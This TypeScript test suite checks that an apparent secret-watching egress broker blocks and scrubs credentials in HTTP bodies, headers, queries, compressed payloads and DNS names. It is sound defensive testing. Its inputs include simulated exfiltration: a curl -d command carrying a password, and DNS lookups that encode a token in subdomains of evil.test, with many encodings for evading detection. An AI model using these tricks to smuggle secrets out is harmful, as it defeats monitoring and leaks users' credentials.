import * as fc from 'fast-check';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpuTimeMs } from '../kit/testing/cpu-time.ts';
import { buildWatchSet, MAX_WATCHED_VALUES } from './fingerprint.ts';
import { createWatchSearch } from './process/watch-search.ts';
import { prepareWatched } from './process/watched.ts';
import { forkProcess, type SpawnedProcess } from './spawn.ts';
import { createTestAuthority } from './testing/certificates.ts';
import { connectRelay, dnsQuery } from './testing/relay.ts';
import { createRig, listenTls, type Rig, type Upstream } from './testing/setup.ts';
import { isWatchable } from './watchable.ts';

const VALUES = [
  'p4ss/word+With&"quotes"-0123456789',
  'tok_7f3a9c2b',
  'an-other-value.of_40_characters/0123456789',
];

const { set: SET } = buildWatchSet(
  VALUES.map((value, index) => ({
    value,
    owner:
      index === 0
        ? { code: 'watch.hidden-value', words: 'The value of DB_PASSWORD in .env' }
        : { code: 'watch.other-credential', words: `The credential number-${String(index)}` },
  })),
);
const WATCHED = prepareWatched(SET, false);

const cut = (bytes: Buffer, places: readonly number[]): Buffer[] => {
  const ends = [...new Set(places.map((place) => place % (bytes.length + 1)))].toSorted(
    (a, b) => a - b,
  );
  return [...ends, bytes.length].map((end, index) => bytes.subarray(ends[index - 1] ?? 0, end));
};
const search = (bytes: Buffer, places: readonly number[]) => {
  const found = createWatchSearch(WATCHED);
  const steps = [...cut(bytes, places).map((part) => found.push(part)), found.end()];
  return {
    out: Buffer.concat(steps.flatMap(({ out }) => out)),
    owners: steps.flatMap(({ hits }) => hits.map(({ owner }) => owner)),
  };
};

const every = (text: string, spell: (code: string) => string): string =>
  Array.from(text, (character) =>
    spell(character.charCodeAt(0).toString(16).padStart(2, '0')),
  ).join('');
const lines = (text: string, width: number, lineBreak: string): string =>
  (text.match(new RegExp(`.{1,${String(width)}}`, 'g')) ?? []).join(lineBreak);
const SPELLINGS: Readonly<Record<string, (value: string) => string>> = {
  'as it is': (value) => value,
  JSON: (value) => JSON.stringify(value),
  'JSON in JSON': (value) => JSON.stringify(JSON.stringify({ value })),
  'JSON \\u': (value) => every(value, (code) => String.raw`\u00${code}`),
  '\\u of one character': (value) =>
    value.replace(
      /^(..)./,
      (_, head: string) => `${head}${String.raw`\u00`}${value.charCodeAt(2).toString(16)}`,
    ),
  percent: encodeURIComponent,
  'percent of every byte': (value) => every(value, (code) => `%${code}`),
  'percent twice': (value) => encodeURIComponent(encodeURIComponent(value)),
  'HTML entities': (value) => every(value, (code) => `&#x${code};`),
  base64: (value) => Buffer.from(value).toString('base64'),
  'base64 at another alignment': (value) => Buffer.from(`x${value}`).toString('base64'),
  base64url: (value) => Buffer.from(`xy${value}`).toString('base64url'),
  'base64 in lines': (value) => lines(Buffer.from(value).toString('base64'), 5, '\n'),
  'base64 in lines, in JSON': (value) =>
    lines(Buffer.from(value).toString('base64'), 16, String.raw`\r\n`),
  hexadecimal: (value) => Buffer.from(value).toString('hex'),
};
const places = fc.array(fc.nat(600), { maxLength: 8 });

describe('a search for watched values', () => {
  it.each(Object.keys(SPELLINGS))(
    'finds them by their fingerprints, over every cut: %s',
    (name) => {
      for (const [owner, value] of VALUES.entries()) {
        const bytes = Buffer.from(`some text before ${SPELLINGS[name]?.(value) ?? ''} and after`);
        for (let at = 0; at <= bytes.length; at += 1) {
          const { out, owners } = search(bytes, [at]);
          expect([at, owners]).toEqual([at, [owner]]);
          expect(out.length).toBe(bytes.length);
          expect(out.includes(value)).toBe(false);
        }
      }
    },
  );

  it.each(Object.keys(SPELLINGS))('finds them between long chunks: %s', (name) => {
    const ordinary = Buffer.from('{"text":"ordinary words, \\n 0123456789"}\n'.repeat(60));
    for (const [owner, value] of VALUES.entries()) {
      const spelt = Buffer.from(SPELLINGS[name]?.(value) ?? '');
      const bytes = Buffer.concat([ordinary, spelt, ordinary]);
      for (let at = -1; at <= spelt.length + 1; at += 1) {
        const { out, owners } = search(bytes, [ordinary.length + at]);
        expect([at, owners]).toEqual([at, [owner]]);
        expect(out.length).toBe(bytes.length);
        expect(out.includes(value)).toBe(false);
      }
    }
  });

  it('finds them with any of their characters escaped', () => {
    const code = (character: string): string =>
      character.charCodeAt(0).toString(16).padStart(2, '0');
    const spellings = [
      (character: string) => `%${code(character)}`,
      (character: string) => String.raw`\u00${code(character)}`,
      (character: string) => `&#x${code(character)};`,
    ];
    const choices = fc.array(fc.option(fc.constantFrom(...spellings), { freq: 3 }), {
      minLength: 42,
      maxLength: 42,
    });
    fc.assert(
      fc.property(
        fc.constantFrom(...VALUES.keys()),
        choices,
        fc.string({ maxLength: 12, unit: fc.constantFrom('a', 'K', '0', '/', ' ') }),
        (owner, spell, around) => {
          const text = Array.from(VALUES[owner] ?? '', (one, at) => spell[at]?.(one) ?? one).join(
            '',
          );
          expect(search(Buffer.from(`${around}${text}${around}`), []).owners).toEqual([owner]);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('finds them where later characters lie under more escapes than the first', () => {
    const percent = (text: string): string => every(text, (code) => `%${code}`);
    for (const [owner, value] of VALUES.entries()) {
      for (const spelt of [
        percent(encodeURIComponent(value)),
        percent(JSON.stringify(value)),
        every(JSON.stringify(value), (code) => String.raw`\u00${code}`),
      ])
        expect([spelt, search(Buffer.from(spelt), []).owners]).toEqual([spelt, [owner]]);
    }
  });

  it('finds them behind what looks like the beginning of an escape', () => {
    const token = VALUES[1] ?? '';
    const spelt = lines(Buffer.from(token).toString('hex'), 5, '%0A');
    expect(search(Buffer.from(`100%${spelt}`), []).owners).toEqual([1]);
  });

  it('finds them in lines of which some letters are escaped', () => {
    const spelt = Buffer.from(VALUES[2] ?? '').toString('base64');
    const escaped = lines(spelt, 5, '\n').replaceAll(/[aeiouA-M]/g, (one) =>
      every(one, (code) => `%${code}`),
    );
    expect(search(Buffer.from(escaped), []).owners).toEqual([2]);
  });

  it('finds them between chunks whatever their letters are spelt with', () => {
    const value = VALUES[1] ?? '';
    const spelt = Buffer.from(
      encodeURIComponent(encodeURIComponent(every(value, (code) => `&#x${code};`))),
    );
    const ordinary = Buffer.from('{"text":"ordinary words, 0123456789"}\n'.repeat(60));
    for (const around of [Buffer.alloc(0), ordinary])
      for (let at = 0; at <= spelt.length; at += 1)
        expect([
          at,
          search(Buffer.concat([around, spelt, around]), [around.length + at]).owners,
        ]).toEqual([at, [1]]);
  });

  it('is done in a moment with nothing but escaped line breaks', () => {
    const spent = cpuTimeMs(() => search(Buffer.from('%0a'.repeat(25_000)), []));
    // It took half a minute where each break was read to the last.
    expect(spent).toBeLessThan(5000);
  });

  it('leaves all other bytes as they are', () => {
    const near = fc.constantFrom(
      ...VALUES.flatMap((value) => [
        value.slice(0, -1),
        value.slice(1),
        value.toUpperCase(),
        value.replace(/[-_]/, '.'),
      ]),
    );
    const text = fc.array(
      fc.oneof(near, fc.string({ maxLength: 20 }), fc.constantFrom('%', '\\u', '&#', '\n')),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.uint8Array({ maxLength: 2000 }).map((bytes) => Buffer.from(bytes)),
          text.map((parts) => Buffer.from(parts.join(' '))),
        ),
        places,
        (bytes, cuts) => {
          const { out, owners } = search(bytes, cuts);
          expect(owners).toEqual([]);
          expect(out.equals(bytes)).toBe(true);
        },
      ),
      { numRuns: 1500 },
    );
  });

  it('holds no byte of an ordinary event', () => {
    const found = createWatchSearch(WATCHED);
    const event = Buffer.from('data: {"text":"ordinary \\n words"}\n\n');
    expect(Buffer.concat([...found.push(event).out]).equals(event)).toBe(true);
  });

  it('is told no value', () => {
    const told = JSON.stringify(SET);
    for (const value of VALUES) {
      for (const spell of Object.values(SPELLINGS)) expect(told).not.toContain(spell(value));
    }
  });
});

describe('what is worth watching for', () => {
  it.each([
    'true',
    '${NPM_TOKEN}',
    '$NPM_TOKEN',
    'https://$DB_HOST/${DB_NAME:-app}',
    '$HOME/bin:$PATH',
    '{{ secret_value }}',
    'My Great Application',
    '127.0.0.1,10.0.0.1,10.0.0.2',
    'http://localhost:3000,http://localhost:5173',
    'localhost',
    '3000',
    'development',
    'short1',
    'https://api.example.com/v1',
    'my-project',
    'db.internal.example.com:5432',
    '/usr/local/share/thing',
    'someone@example.com',
    '2026-01-01T00:00:00Z',
    '1.2.3-45',
    'aaaaaaaaaaaa',
    'us-east',
    'application',
    'changeme',
    'your-api-key-here',
  ])('not %s', (value) => {
    expect(isWatchable(value)).toBe(false);
  });
  it.each([
    'tok_7f3a9c2b',
    'https://hooks.example.com/services/T01234567/B01234567/abcdefghij0123456789abcd',
    'hunter2hunter3',
    'postgres://app:s3cr3t@db.example.com/app',
    'sk-ant-api03-abcdefgh',
    'correct-horse-battery-staple-again',
    'AbCdEfGhIj',
    'wJalrXUtnFEMIK7MDENGbPxRfiCYKEY',
    'Pa$sw0rd!99',
    '$2b$10$N9qo8uLOickgx2ZMRZoMye',
  ])('but %s', (value) => {
    expect(isWatchable(value)).toBe(true);
  });
  it.each([
    'us-east-1',
    'claude-sonnet-4-5',
    'gpt-4.1-2025-04-14',
    'qwen2.5-coder:7b',
    'Europe/Berlin',
    'en_US.UTF-8',
    'application/json; charset=utf-8',
    'localhost:5432',
    'http://127.0.0.1:8080',
    'redis://redis:6379/0',
    'node:20-alpine',
    'linux/x86_64',
    'utf8mb4_unicode_ci',
    'arn:aws:iam::123456789012:role/app',
    '*.example.com',
    'My App <no-reply@example.com>',
    'SameSite=Lax',
    '["http://localhost:3000"]',
  ])('not %s under a name that says nothing of a secret', (value) => {
    expect(isWatchable(value, true)).toBe(false);
  });
  it.each([
    'tok_7f3a9c2b',
    'AbCdEfGhIj',
    'postgres://app:app@db:5432/app',
    'https://abcdef1234567890@o1.ingest.example.com/1',
    '550e8400-e29b-41d4-a716-446655440000',
    'Pa$$word!2024',
  ])('but %s under any name', (value) => {
    expect(isWatchable(value, true)).toBe(true);
  });
});

describe('a watch set', () => {
  const owner = { code: 'watch.hidden-value', words: 'The value of A in .env' } as const;

  it('leaves out what is plain or too much, and counts it', () => {
    const many = Array.from({ length: MAX_WATCHED_VALUES + 1 }, (_, index) => ({
      value: `value-number-${String(index)}-0f3a`,
      owner,
    }));
    const report = buildWatchSet([{ value: 'true', owner }, ...many, ...many]);
    expect(report).toMatchObject({ watched: MAX_WATCHED_VALUES, tooPlain: 1, tooMany: 1 });
    expect(report.set.owners).toHaveLength(MAX_WATCHED_VALUES);
  });

  it('goes by the name that speaks of a secret where a value has several', () => {
    const values = [true, false].map((setting) => ({ value: 'summer-house-2024', owner, setting }));
    expect(buildWatchSet(values)).toMatchObject({ watched: 1, tooPlain: 1 });
  });
});

describe('a broker that watches', () => {
  let rig: Rig;
  let upstream: Upstream;
  const seen: string[] = [];
  const children: SpawnedProcess[] = [];
  const [hidden = '', other = ''] = VALUES;

  beforeAll(async () => {
    const authority = await createTestAuthority();
    upstream = await listenTls(
      authority,
      ['api.test'],
      (request: IncomingMessage, response: ServerResponse) => {
        const parts: Buffer[] = [];
        request.on('data', (part: Buffer) => parts.push(part));
        request.on('end', () => {
          seen.push(`${request.url ?? ''} ${Buffer.concat(parts).toString('latin1')}`);
          response.writeHead(200, { 'x-echo': hidden });
          response.end(`echo ${hidden} ${Buffer.from(other).toString('hex')}`);
        });
      },
    );
    rig = await createRig({
      authority,
      allow: ['api.test', '*.evil.test'],
      start: {
        spawn: (entry, env) => {
          const child = forkProcess(entry, env);
          children.push(child);
          return child;
        },
      },
      program: { pid: 7, command: ['curl', '-d', `k=${hidden}`], ancestors: [['sh', '-c', other]] },
      resolve: [`api.test:443:127.0.0.1:${String(upstream.port)}`],
    });
    rig.broker.watch(SET);
    await rig.fetch('https://api.test/first');
  });
  afterAll(async () => {
    await rig.close();
    await upstream.close();
  });

  it.each(Object.keys(SPELLINGS))('lets no value out in a body: %s', async (name) => {
    const before = seen.length;
    const answer = await rig.fetch('https://api.test/', {
      method: 'POST',
      body: `k=${SPELLINGS[name]?.(hidden) ?? ''}`,
    });
    expect([answer.status, answer.headers['glovebox-code']]).toEqual([403, 'watch.hidden-value']);
    expect(answer.text).toContain('DB_PASSWORD in .env');
    expect(seen.length).toBe(before);
  });

  it('lets none out in a query, a header, Basic or a compressed body', async () => {
    const before = seen.length;
    const basic = Buffer.from(`user:${other}`).toString('base64');
    const codes = await Promise.all([
      rig.fetch(`https://api.test/?k=${encodeURIComponent(other)}`),
      rig.fetch('https://api.test/', { headers: { cookie: `s=${other}` } }),
      rig.fetch('https://api.test/', { headers: { authorization: `Basic ${basic}` } }),
      rig.fetch('https://api.test/', {
        method: 'POST',
        headers: { 'content-encoding': 'gzip' },
        body: gzipSync(`{"k":"${other}"}`),
      }),
    ]);
    expect(codes.map(({ headers }) => headers['glovebox-code'])).toEqual(
      Array.from({ length: 4 }, () => 'watch.other-credential'),
    );
    expect(seen.length).toBe(before);
  });

  it('fills them in answers, and counts them', async () => {
    const answer = await rig.fetch('https://api.test/echo');
    expect(answer.text).toBe(`echo ${'x'.repeat(hidden.length)} ${'x'.repeat(other.length * 2)}`);
    expect(answer.headers['x-echo']).toBe('x'.repeat(hidden.length));
    await rig.until(
      () =>
        rig.events.some(
          (event) => event.kind === 'egress' && event.path === '/echo' && event.scrubbed === 3,
        ),
      'the count',
    );
  });

  it('answers no name that holds one', async () => {
    const token = VALUES[1] ?? '';
    const hex = Buffer.from(token).toString('hex');
    for (const name of [`${hex.slice(0, 10)}.${hex.slice(10)}.evil.test`, `${token}.evil.test`]) {
      await expect(rig.relay.addressOf(name)).rejects.toThrow(/./);
    }
    await rig.until(
      () =>
        rig.events.filter(
          (event) => event.kind === 'dns' && event.code === 'watch.other-credential',
        ).length > 0,
      'the record',
    );
  });

  it('records no such name either, whatever is asked for it and wherever it stands', async () => {
    const token = (VALUES[1] ?? '').toLowerCase();
    const half = Math.ceil(token.length / 2);
    const ask = async (name: string, type: number): Promise<void> => {
      await rig.relay.ask(dnsQuery(name, type));
    };
    await ask(`${token}.text.test`, 16);
    await ask(`${token.slice(0, half)}.${token.slice(half)}`, 1);
    // Of the names before, a count may still follow.
    const told = () =>
      rig.events.filter(
        (event) =>
          event.kind === 'dns' && event.code !== undefined && !event.name.endsWith('.evil.test'),
      );
    await rig.until(() => told().length >= 2, 'both records');
    expect(told()).toMatchObject([
      { name: 'withheld.text.test', type: 'TXT', code: 'watch.other-credential' },
      { name: 'withheld', type: 'A', code: 'watch.other-credential' },
    ]);
    expect(JSON.stringify(told()).toLowerCase()).not.toContain(token.slice(half));
  });

  it('says whose value it was, and never the value', async () => {
    await rig.until(
      () =>
        rig.events.some((event) => event.kind === 'egress' && event.code === 'watch.hidden-value'),
      'the record',
    );
    const records = JSON.stringify([rig.events, rig.opened]);
    expect(records).toContain('"curl","-d","k=xxx');
    expect(records).toContain('DB_PASSWORD in .env stood in the body');
    for (const value of VALUES) {
      for (const form of [value, encodeURIComponent(value), Buffer.from(value).toString('hex')])
        expect(records).not.toContain(form);
    }
  });

  it('watches again at once when its process had to be started anew', async () => {
    children.at(-1)?.kill();
    await rig.until(() => rig.states.includes('up'), 'the new process');
    const relay = await connectRelay(rig.folder);
    await expect(relay.addressOf(`${VALUES[1] ?? ''}.evil.test`)).rejects.toThrow(/./);
    expect(await relay.addressOf('www.evil.test')).toMatch(/^198\./);
    relay.close();
  });
});
